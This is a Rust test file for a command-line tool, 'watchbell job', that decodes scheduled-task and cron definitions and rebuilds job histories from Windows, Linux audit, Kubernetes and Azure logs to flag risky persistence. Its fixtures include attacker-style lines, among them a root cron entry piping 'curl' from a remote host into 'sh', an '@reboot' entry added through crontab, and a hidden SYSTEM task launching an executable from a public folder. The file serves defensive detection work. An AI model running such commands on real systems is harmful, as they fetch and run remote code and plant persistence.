//! `watchbell job`: what is decoded, how it is printed, how it ends.

use crate::support::{Lab, line, ran};
use serde_json::Value;

const NOW: &str = "2026-11-25T00:21:00Z";

fn decode(lab: &Lab, input: &str, more: &[&str]) -> Vec<Value> {
    let run = lab.run(&[&["job", "decode", "--now", NOW, input], more].concat());
    assert_eq!(run.code, 0, "{input}: {}", run.err);
    run.alerts()
}

/// Checks one job's values, as `pointer = text`.
fn check(input: &str, more: &[&str], expected: &[(&str, &str)]) {
    let jobs = decode(&Lab::new(), input, more);
    assert_eq!(jobs.len(), 1, "{input}: {jobs:?}");
    for (pointer, wanted) in expected {
        let seen = jobs[0].pointer(pointer).map(|value| value.as_str().map_or_else(|| value.to_string(), str::to_owned)).unwrap_or_default();
        assert_eq!(&seen, wanted, "{input}: {pointer} of {:#}", jobs[0]);
    }
}

const XML: &str = r"<?xml version='1.0'?><Task xmlns='http://schemas.microsoft.com/windows/2004/02/mit/task'><RegistrationInfo><URI>\Updater</URI></RegistrationInfo>
  <Triggers><CalendarTrigger><StartBoundary>2026-11-01T09:00:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers>
  <Principals><Principal><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Settings><Hidden>true</Hidden></Settings>
  <Actions><Exec><Command>C:\Users\Public\x.exe</Command></Exec></Actions></Task>";

#[test]
fn every_kind_of_definition_is_known_by_its_content() {
    check(
        XML,
        &["--tz", "W. Europe Standard Time"],
        &[("/kind", "windows_task"), ("/next/0", "2026-11-25T08:00:00Z"), ("/risk/0/reason", "hidden"), ("/risk/2/reason", "user-writable path")],
    );
    check("schtasks /create /tn a /tr b.exe /sc onlogon", &[], &[("/name", "a"), ("/next", "[]"), ("/when", "at each logon of any user")]);
    check(
        "*/5 * * * * root curl -s http://192.0.2.1/x | sh",
        &[],
        &[("/principal", "root"), ("/command", "curl -s http://192.0.2.1/x | sh"), ("/next/0", "2026-11-25T00:25:00Z")],
    );
    check("*/5 * * * * python3 /tmp/x.py", &[], &[("/principal", "null"), ("/command", "python3 /tmp/x.py")]);
    check("*/5 * * * * root /tmp/x", &["--user", "alice"], &[("/principal", "alice"), ("/command", "root /tmp/x")]);
    check(
        "[Timer]\nOnCalendar=03:00\n[Service]\nExecStart=/bin/x\n",
        &[],
        &[("/kind", "systemd_timer"), ("/command", "/bin/x"), ("/next/0", "2026-11-25T03:00:00Z")],
    );
    check(
        "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\n/tmp/x\n",
        &[],
        &[("/kind", "at"), ("/command", "/tmp/x"), ("/principal", "uid 1000")],
    );
    check("echo /tmp/x | at now + 5 minutes", &[], &[("/next/0", "2026-11-25T00:26:00Z")]);
    check("systemd-run --on-active=30 /bin/x", &[], &[("/kind", "systemd_run"), ("/next/0", "2026-11-25T00:21:30Z")]);
    check("(crontab -l; echo '@reboot /dev/shm/a') | crontab -", &[], &[("/tool", "crontab"), ("/when", "at each boot")]);
    check("Register-ScheduledTask -TaskName t -Action (New-ScheduledTaskAction -Execute mshta.exe)", &[], &[("/name", "t"), ("/risk/0/reason", "LOLBin")]);
}

#[test]
fn clouds_and_clusters_are_known_by_their_keys() {
    let schedule =
        r#"{"name":"nightly","properties":{"frequency":"Day","interval":1,"startTime":"2026-11-01T02:00:00+00:00","timeZone":"UTC","isEnabled":true}}"#;
    check(schedule, &[], &[("/kind", "azure_schedule"), ("/name", "nightly"), ("/next/0", "2026-11-25T02:00:00Z")]);
    let link = r#"{"properties":{"runbook":{"name":"drop"},"schedule":{"name":"nightly"}}}"#;
    check(link, &[], &[("/kind", "azure_schedule"), ("/command", "runbook drop")]);
    let deed = r#"{"operationName":"MICROSOFT.AUTOMATION/AUTOMATIONACCOUNTS/WEBHOOKS/WRITE","resourceId":"/subscriptions/s/webhooks/hook","properties":{}}"#;
    check(deed, &[], &[("/kind", "azure_webhook"), ("/name", "hook")]);
    let manifest = "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: sync, namespace: prod}\nspec:\n  schedule: '*/10 * * * *'\n  timeZone: Asia/Tokyo\n  \
                    jobTemplate: {spec: {template: {spec: {containers: [{name: a, image: alpine, command: [sh, -c, id]}]}}}}\n";
    check(manifest, &[], &[("/kind", "cronjob"), ("/name", "prod/sync"), ("/next/0", "2026-11-25T00:30:00Z")]);
    let lab = Lab::new();
    let two = format!("{manifest}---\n{}", manifest.replace("sync", "other"));
    assert_eq!(decode(&lab, &two, &[]).len(), 2);
    assert_eq!(decode(&lab, &format!("[{schedule},{link}]"), &[]).len(), 2);
}

#[test]
fn files_folders_and_standard_input_are_read() {
    let lab = Lab::new();
    let wide: Vec<u8> = [0xFF, 0xFE].into_iter().chain(XML.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    lab.write("Tasks/Updater", wide);
    lab.write("Tasks/deeper/Other", XML);
    lab.write("etc/cron.d/health", "SHELL=/bin/sh\n# m h\n* * * * * nobody nice /x\nnonsense\n");
    lab.write("units/a.timer", "[Timer]\nOnBootSec=5min\n");
    lab.write("units/a.service", "[Service]\nExecStart=/opt/a\n");
    assert_eq!(decode(&lab, "Tasks", &[]).len(), 2);
    assert_eq!(decode(&lab, "etc/cron.d/health", &[])[0]["principal"], "nobody");
    let timer = &decode(&lab, "units/a.timer", &[])[0];
    assert_eq!((&timer["name"], &timer["command"]), (&"a.timer".into(), &"/opt/a".into()));
    let stdin = ran(lab.command().args(["job", "decode", "-"]).write_stdin("@daily /bin/x\n"));
    assert_eq!((stdin.code, stdin.alerts().len()), (0, 1), "{}", stdin.err);
    assert!(lab.run(&["job", "decode", "etc/cron.d/health"]).err.contains("line 4"));
}

#[test]
fn a_table_fits_a_terminal() {
    let lab = Lab::new();
    let long = format!("schtasks /create /tn {} /tr \"powershell -c {} \u{202e}\u{1b}[31m\" /sc daily /st 09:00", "n".repeat(300), "word ".repeat(400));
    for (tz, clock) in [("UTC", "Wed 2026-11-25 09:00 UTC  in 8 h 39 min"), ("Europe/Berlin", "Wed 2026-11-25 09:00 +01:00 (08:00 UTC)  in 7 h 39 min")] {
        let table = lab.run(&["job", "decode", "--format", "table", "--now", NOW, "--tz", tz, &long]);
        assert!(table.out.contains(clock), "{}", table.out);
        let widest = table.out.lines().map(|line| line.chars().count()).max().unwrap_or_default();
        assert!(widest <= 80 && table.out.lines().count() < 60, "{widest}\n{}", table.out);
        assert!(!table.out.contains(['\u{1b}', '\u{202e}']));
    }
    let json: Value = serde_json::from_str(&lab.run(&["job", "decode", "--format", "json", "@daily /x"]).out).unwrap();
    assert_eq!(json.as_array().unwrap().len(), 1);
}

#[test]
fn it_ends_as_other_commands_do() {
    let lab = Lab::new();
    lab.write("empty", "");
    lab.write("bad.xml", "<html></html>");
    lab.write("deep.json", "[".repeat(100_000));
    lab.write("deep.yaml", format!("kind: CronJob\na: {}", "[".repeat(100_000)));
    for (args, code) in [
        (&["ls -la"][..], 2),
        (&["missing.xml"], 3),
        (&["empty"], 2),
        (&["bad.xml"], 2),
        (&["deep.json"], 2),
        (&["deep.yaml"], 2),
        (&["@daily /x", "--tz", "Mars/Olympus"], 3),
        (&["@daily /x", "--now", "noon"], 3),
        (&[], 3),
    ] {
        let run = lab.run(&[&["job", "decode"], args].concat());
        assert_eq!(run.code, code, "{args:?}: {} {}", run.out, run.err);
        assert!(run.out.is_empty() && !run.err.is_empty(), "{args:?}");
    }
}

/// A record of the task scheduler or of the security log, in NXLog's schema.
fn record(n: u64, channel: &str, id: u64, fields: &Value) -> String {
    let provider = if channel == "Security" { "Microsoft-Windows-Security-Auditing" } else { "Microsoft-Windows-TaskScheduler" };
    let mut event = serde_json::json!({
        "EventTime": format!("2026-03-02 09:{:02}:{:02}", n / 60, n % 60), "Hostname": "WS14.doe.example", "EventID": id, "SourceName": provider,
        "RecordNumber": n * 10_000 + id, "Channel": channel,
    });
    event.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
    format!("{event}\n")
}

const SCHEDULER: &str = "Microsoft-Windows-TaskScheduler/Operational";

/// A task that somebody from elsewhere makes, that runs twice and fails once, and that is removed.
fn life() -> String {
    let xml = XML.replace("S-1-5-18", "DOE\\svc");
    let run = |n: u64, code: u64| {
        record(n, SCHEDULER, 100, &serde_json::json!({"TaskName": "\\Updater", "UserContext": "DOE\\svc"}))
            + &record(n, SCHEDULER, 200, &serde_json::json!({"TaskName": "\\Updater", "ActionName": "x.exe"}))
            + &record(n + 1, SCHEDULER, 201, &serde_json::json!({"TaskName": "\\Updater", "ActionName": "x.exe", "ResultCode": code.to_string()}))
            + &record(n + 1, SCHEDULER, 102, &serde_json::json!({"TaskName": "\\Updater", "UserContext": "DOE\\svc"}))
    };
    let by =
        serde_json::json!({"SubjectUserName": "k.weber", "SubjectDomainName": "DOE", "SubjectLogonId": "0x5a419", "TaskName": "\\Updater", "TaskContent": xml});
    let logon =
        serde_json::json!({"TargetUserName": "k.weber", "TargetLogonId": "0x5a419", "LogonType": 3, "IpAddress": "192.0.2.7", "WorkstationName": "KALI"});
    record(0, "Security", 4624, &logon) + &record(1, "Security", 4698, &by) + &run(100, 0) + &run(200, 2_147_942_402) + &record(300, "Security", 4699, &by)
}

#[test]
fn logs_tell_the_life_of_a_job() {
    let lab = Lab::new();
    lab.write("life.jsonl", life());
    let list = lab.run(&["job", "list", "life.jsonl"]);
    assert_eq!((list.code, list.alerts().len()), (0, 1), "{} {}", list.out, list.err);
    let job = &list.alerts()[0];
    for (pointer, wanted) in [
        ("/name", "\\Updater"),
        ("/host", "WS14.doe.example"),
        ("/created/by", "k.weber"),
        ("/created/from", "192.0.2.7"),
        ("/created/command", "C:\\Users\\Public\\x.exe"),
        ("/runs/count", "2"),
        ("/runs/failed", "1"),
        ("/runs/results/0", "1"),
        ("/deleted/by", "k.weber"),
        ("/job/when", "deleted"),
        ("/job/risk/0/reason", "hidden"),
    ] {
        let seen = job.pointer(pointer).map(|value| value.as_str().map_or_else(|| value.to_string(), str::to_owned)).unwrap_or_default();
        assert_eq!(seen, wanted, "{pointer} of {job:#}");
    }
    let show = lab.run(&["job", "show", "updater", "life.jsonl", "--format", "table"]);
    for words in ["made     Mon 2026-03-02 09:00:01 UTC by k.weber from 192.0.2.7", "2 runs, 1 failed", "results: 0 (1), 2147942402 (1)"] {
        assert!(show.out.contains(words), "{words}: {}", show.out);
    }
    assert_eq!(lab.run(&["job", "show", "nosuch", "life.jsonl"]).code, 3);
    assert_eq!(lab.run(&["job", "list", "missing.jsonl"]).code, 3);
    assert_eq!(lab.run(&["job", "next", "life.jsonl"]).out, "", "it is deleted");
}

#[test]
fn order_and_split_of_logs_do_not_show() {
    let lab = Lab::new();
    let life = life();
    let mut lines: Vec<&str> = life.lines().collect();
    lab.write("whole.jsonl", &life);
    lines.reverse();
    lab.write("parts/a.jsonl", lines[..4].join("\n") + "\n");
    lab.write("parts/b.jsonl", lines[4..].join("\n") + "\n");
    assert_eq!(lab.run(&["job", "list", "whole.jsonl"]).out, lab.run(&["job", "list", "parts"]).out);
    assert_eq!(lab.run(&["job", "list", "whole.jsonl"]).out, lab.run(&["job", "list", "whole.jsonl", "parts"]).out, "copies are dropped");
}

#[test]
fn what_runs_next_is_told_soonest_first() {
    let lab = Lab::new();
    let make = |n, name: &str, command: &str, schedule: &str| line(n, &format!("schtasks /create /tn {name} /tr {command} {schedule}"));
    lab.write(
        "a.jsonl",
        make(1, "late", "a.exe", "/sc daily /st 23:00") + &make(2, "soon", "b.exe", "/sc daily /st 10:00") + &make(3, "logon", "c.exe", "/sc onlogon"),
    );
    let next = lab.run(&["job", "next", "a.jsonl", "--count", "3"]).alerts();
    let told: Vec<(&str, Option<&str>)> = next.iter().map(|run| (run["name"].as_str().unwrap(), run["time"].as_str())).collect();
    let wanted = [("soon", Some("2026-03-02T10:00:00Z")), ("late", Some("2026-03-02T23:00:00Z")), ("soon", Some("2026-03-03T10:00:00Z")), ("logon", None)];
    assert_eq!(told, wanted);
    let later = lab.run(&["job", "next", "a.jsonl", "--count", "1", "--now", "2026-03-02T11:00:00Z", "--tz", "Europe/Berlin"]).alerts();
    assert_eq!(later[0]["local"], "2026-03-02T23:00:00+01:00");
    for verb in ["list", "next"] {
        let table = lab.run(&["job", verb, "a.jsonl", "--format", "table"]);
        assert!(table.out.contains("soon") && table.out.lines().all(|line| line.chars().count() <= 80), "{}", table.out);
    }
}

#[test]
fn one_event_may_make_several_jobs() {
    let lab = Lab::new();
    lab.write("a.jsonl", line(1, "cmd /c schtasks /create /tn one /tr a.exe /sc onlogon & schtasks /create /tn two /tr b.exe /sc onstart"));
    let names: Vec<String> = lab.run(&["job", "list", "a.jsonl"]).alerts().iter().map(|job| job["name"].as_str().unwrap_or_default().to_owned()).collect();
    assert_eq!(names, ["one", "two"]);
}

#[test]
fn jobs_of_one_name_in_two_places_are_two() {
    let lab = Lab::new();
    let event = |n: u64| {
        serde_json::json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "auditID": n.to_string(), "verb": "create", "stage": "ResponseComplete",
            "stageTimestamp": "2026-03-02T09:00:00Z", "user": {"username": "eve"}, "objectRef": {"resource": "cronjobs", "namespace": "a", "name": "b"},
            "responseStatus": {"code": 201},
        })
    };
    let cluster = "/SUBSCRIPTIONS/1/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS";
    lab.write("eks.jsonl", serde_json::json!({"logGroup": "/aws/eks/staging/cluster", "message": event(1).to_string()}).to_string() + "\n");
    lab.write(
        "aks.jsonl",
        serde_json::json!({"category": "kube-audit", "resourceId": cluster, "properties": {"log": event(2).to_string()}}).to_string() + "\n",
    );
    let azure = |account: &str| {
        serde_json::json!({
            "time": "2026-03-02T09:00:00Z", "operationName": "Microsoft.Automation/automationAccounts/schedules/write", "category": "Administrative",
            "resourceId": format!("/subscriptions/1/resourceGroups/rg/providers/Microsoft.Automation/automationAccounts/{account}/schedules/nightly"),
            "resultType": "Success", "callerIpAddress": "192.0.2.7", "correlationId": account,
        })
        .to_string()
            + "\n"
    };
    lab.write("azure.jsonl", azure("first") + &azure("second"));
    let told = lab.run(&["job", "list", "eks.jsonl", "aks.jsonl", "azure.jsonl", "--format", "table"]).out;
    for title in ["staging (1 job)", "AKS in RG (1 job)", "first in rg (1 job)", "second in rg (1 job)"] {
        assert!(told.contains(title), "{title}: {told}");
    }
}

#[test]
fn packs_are_asked_as_in_a_scan() {
    let lab = Lab::new();
    lab.write("a.jsonl", line(1, "schtasks /create /tn one /tr a.exe /sc onlogon"));
    let check = |pack: &str, code| assert_eq!(lab.run(&["job", "list", "a.jsonl", "--pack", pack]).code, code, "{pack}");
    check("mitre-t1053-scheduled-task-job", 0);
    check("nosuch", 3);
    lab.write("broken/pack.yaml", "format: 1\n");
    check("broken", 3);
}

#[test]
fn what_was_refused_is_no_deed() {
    let lab = Lab::new();
    let serial = |n: u64, success: &str, exit: &str, item: &str| {
        format!(
            "type=SYSCALL msg=audit(1772442840.0{n:02}:{n}): arch=c000003e syscall=257 success={success} exit={exit} a0=ffffff9c a1=7f a2=241 a3=1b6 items=1 ppid=1 pid=9 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm=\"sh\" exe=\"/bin/dash\" key=(null)\n\
             type=CWD msg=audit(1772442840.0{n:02}:{n}): cwd=\"/\"\n{item}type=EOE msg=audit(1772442840.0{n:02}:{n}):\n"
        )
    };
    let path = |n: u64, name: &str, kind: &str| {
        format!("type=PATH msg=audit(1772442840.0{n:02}:{n}): item=0 name=\"{name}\" inode=7 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype={kind}\n")
    };
    let shell = "type=SYSCALL msg=audit(1772442839.900:9): arch=c000003e syscall=59 success=yes exit=0 items=0 ppid=1 pid=9 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm=\"sh\" exe=\"/bin/dash\" key=(null)\n\
                 type=EXECVE msg=audit(1772442839.900:9): argc=3 a0=\"sh\" a1=\"-c\" a2=6563686F20222A202A202A202A202A20726F6F74202F7822203E202F6574632F63726F6E2E642F64656E696564\ntype=EOE msg=audit(1772442839.900:9):\n";
    lab.write("command.log", shell);
    assert_eq!(lab.run(&["job", "list", "command.log"]).alerts().len(), 1, "nothing says that it did not work");
    lab.write(
        "audit.log",
        shell.to_owned() + &serial(1, "no", "-13", &path(1, "/etc/cron.d/denied", "CREATE")) + &serial(2, "yes", "3", &path(2, "/etc/cron.d/done", "CREATE")),
    );
    let names: Vec<String> = lab.run(&["job", "list", "audit.log"]).alerts().iter().map(|job| job["name"].as_str().unwrap_or_default().to_owned()).collect();
    assert_eq!(names, ["/etc/cron.d/done"]);
}
